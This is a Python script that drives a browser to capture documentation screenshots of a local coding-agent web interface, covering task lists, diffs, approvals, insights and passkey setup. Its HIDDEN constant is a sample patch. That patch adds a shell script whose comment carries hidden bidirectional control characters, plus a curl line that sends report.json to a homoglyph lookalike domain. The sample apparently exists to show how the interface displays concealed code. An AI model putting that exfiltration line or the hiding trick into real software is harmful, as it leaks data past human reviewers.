"""Makes the pictures of the local page that the documents show.

    python -m tests.page_pictures /home/zhangwei

The folder is the home that the pictures show.  It must not exist, and is gone afterwards.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import re
import shutil
import sys
import time
from collections.abc import Sequence
from contextlib import closing
from functools import partial
from pathlib import Path
from typing import Final, Literal

from playwright.async_api import Browser, Page, expect

from common.sentences import Lang
from local_agent.store.database import Database
from tests import browsing
from tests import model_script as script
from tests.browsing import new_page, screenshot
from tests.e2e.place import Terminal, wait_until
from tests.e2e.proposing import Shop
from tests.filled_journal import fill
from tests.page_desk import EDITS, SECONDS, enter, link, origin, prefer, shop_with_page

FOLDER: Final = Path(__file__).parent.parent / "docs" / "pictures"
FIX: Final = "fix the login retry: wait longer each time"
FIX_ZH: Final = "把 shop/auth/login.py 的登录重试改成逐次加长等待（backoff）"
EXPLAIN: Final = "explain the login retry"
EXPLAIN_ZH: Final = "登录为什么重试三次？"
SEARCH: Final = "search LoginError"
TESTS: Final = "python3 -m unittest discover -s tests"
HIDDEN: Final = (
    "diff --git a/scripts/report.sh b/scripts/report.sh\nnew file mode 100755\n"
    "--- /dev/null\n+++ b/scripts/report.sh\n@@ -0,0 +1,3 @@\n+#!/bin/sh\n"
    "+# only for admins\u202e } \u2066if (isAdmin)\u2069 \u2066 begin\n"
    "+curl -s https://ex\u0430mple.com/collect -d @report.json\n"
)
WORDS_ZH: Final = "重试前逐次加长等待，遇到 4xx 立即放弃。\n\n- 新增 `backoff`。"
ANSWERS: Final = (script.only(script.edits(WORDS_ZH, *EDITS), when="backoff", always=True),)
SETTLED: Final = ("WAITING_APPROVAL", "COMPLETED", "PROPOSAL_READY")
AUTHENTICATOR: Final = {
    "protocol": "ctap2",
    "transport": "internal",
    "hasUserVerification": True,
    "isUserVerified": True,
    "automaticPresenceSimulation": True,
}


class Camera:
    """One browser before one page after the other."""

    def __init__(self, browser: Browser, shop: Shop) -> None:
        self._browser = browser
        self.shop = shop

    async def take(
        self,
        pages: Sequence[tuple[str, str, str]],
        *,
        lang: Lang = "en",
        theme: Literal["light", "dark"] = "light",
        width: int = 1280,
        height: int = 800,
    ) -> None:
        """Take each page: its name, its path, and what is in sight once it is there."""
        async with new_page(
            self._browser, lang=lang, theme=theme, width=width, height=height
        ) as page:
            await enter(page, self.shop.place)
            await prefer(page, lang=lang, theme=theme)
            for name, path, shows in pages:
                await page.evaluate("path => { location.hash = path; }", path)
                await expect(page.locator(shows).first).to_be_visible(timeout=SECONDS)
                if name.startswith("tasks-zh"):
                    await page.locator("textarea").fill("@dev ")
                    await expect(page.get_by_role("option").first).to_be_visible()
                await _picture(page, name)

    async def start_playbook(self) -> str:
        """Run a playbook until it waits; return its path."""
        async with new_page(self._browser) as page:
            await enter(page, self.shop.place, "/playbooks")
            card = page.locator(".queue > li", has_text="repo-health")
            await card.get_by_role("button", name="Run …").click()
            await card.get_by_role("button", name="Run", exact=True).click()
            await page.wait_for_url(re.compile("#/tasks/T-"))
            await expect(page.locator(".steps li.waiting")).to_be_visible(timeout=SECONDS)
            return "/" + page.url.partition("#/")[2]

    async def strangers(self) -> None:
        """Take what is seen without a session."""
        async with new_page(self._browser, height=420, allowed=("403",)) as page:
            url = await asyncio.to_thread(link, self.shop.place)
            await page.goto(f"{origin(url)}/launch#used")
            await expect(page.locator("p[lang]")).to_be_visible()
            await _picture(page, "launch")
            await page.goto(origin(url))
            await _picture(page, "closed")

    async def passkey(self) -> None:
        """Take the page on which a passkey is made, with its code."""
        async with new_page(self._browser, height=420) as page:
            devtools = await page.context.new_cdp_session(page)
            await devtools.send("WebAuthn.enable")
            options = {"options": AUTHENTICATOR}
            await devtools.send("WebAuthn.addVirtualAuthenticator", options)
            with Terminal(self.shop.place.environ, "passkey", "add", "laptop") as terminal:
                asked = re.compile(r"http://localhost:\S+")
                await asyncio.to_thread(terminal.read_until, "\n", "", after=asked)
                found = asked.search(terminal.shown)
                assert found
                await page.goto(found[0])
                await page.get_by_role("button", name="Add this passkey").click()
                await expect(page.locator(".code")).to_be_visible(timeout=SECONDS)
                await _picture(page, "passkey")


async def _picture(page: Page, name: str) -> None:
    path = FOLDER / f"page-{name}.png"
    await screenshot(page, path)
    size = (await asyncio.to_thread(path.stat)).st_size
    sys.stdout.write(f"{path.name}: {size} bytes\n")


def _is_settled(shop: Shop, words: str) -> bool:
    return shop.task(words).get("state") in SETTLED


def _prepare(shop: Shop) -> dict[str, str]:
    """Ask for all that is shown; return where each is."""
    shop.end_agent()
    day_ago_ms = round(time.time() * 1000) - 25 * 3_600_000  # by now all of these have ended
    with closing(Database(shop.place.root / "state" / "journal.db")) as journal:
        fill(journal, tasks=420, events_per_task=12, seed=3, now_ms=day_ago_ms, days=60)
    shop.place.start_agent()
    shop.place.run("workspace", "add", str(shop.workspace), "--test", TESTS)
    patch = shop.workspace.parent / "report.diff"
    patch.write_text(HIDDEN, encoding="utf-8")
    shop.place.run("apply", str(patch), check=False)
    for words in (SEARCH, EXPLAIN, EXPLAIN_ZH, FIX, FIX_ZH, "test"):
        shop.say(f"@dev {words}")
        wait_until(partial(_is_settled, shop, words))
    paths = {words: f"/tasks/{shop.task(words)['short_id']}" for words in (SEARCH, EXPLAIN, FIX)}
    newest = {task["text"]: f"/tasks/{task['short_id']}" for task in reversed(shop.place.tasks())}
    of_patch = next(path for text, path in newest.items() if "report.diff" in text)
    return paths | {"zh": newest[f"@dev {FIX_ZH}"], "test": newest["@dev test"], "hidden": of_patch}


async def _take_all(shop: Shop, at: dict[str, str]) -> None:
    async with browsing.browser() as browser:
        camera = Camera(browser, shop)
        run = await camera.start_playbook()
        diff, list_, queue, plot = ".block", ".listed", ".queue > li", ".plot svg[role]"
        files = "/files/shop-api"
        await camera.take(
            [
                ("tasks", "", list_),
                ("hidden", at["hidden"], diff),
                ("answer", at[EXPLAIN], ".markdown table"),
                ("command", at["test"], ".question"),
                ("search", at[SEARCH], ".hit"),
                ("run", run, ".steps"),
                ("approvals", "/approvals", queue),
                ("playbooks", "/playbooks", queue),
                ("folder", files, ".folder a"),
                ("file", f"{files}/shop/auth/login.py?line=6", ".marked"),
                ("image", f"{files}/logo.png", ".picture"),
                ("binary", f"{files}/data.bin", "pre"),
                ("audit", "/audit", "tbody tr"),
                ("settings", "/settings", "tbody tr"),
            ]
        )
        await camera.take([("change", at[FIX], diff)], height=1600)
        await camera.take([("insights", "/insights", plot)], height=1300)
        zh = [("change-zh-dark", at["zh"], diff), ("tasks-zh-dark", "", list_)]
        zh += [("approvals-zh-dark", "/approvals", queue), ("insights-zh-dark", "/insights", plot)]
        await camera.take(zh, lang="zh", theme="dark", height=1000)
        narrow = [("tasks-narrow", "", list_), ("change-narrow", at[FIX], ".question")]
        narrow += [
            ("approvals-narrow", "/approvals", queue),
            ("insights-narrow", "/insights", plot),
        ]
        await camera.take(narrow, width=390, height=844)
        await camera.strangers()
        await camera.passkey()


def main() -> None:
    """Write all pictures anew."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    folder: Path = parser.parse_args().folder
    folder.mkdir()
    try:
        os.environ["HOME"] = str(folder)
        with shop_with_page(folder, answers=ANSWERS) as shop:
            asyncio.run(_take_all(shop, _prepare(shop)))
    finally:
        shutil.rmtree(folder)


if __name__ == "__main__":
    main()
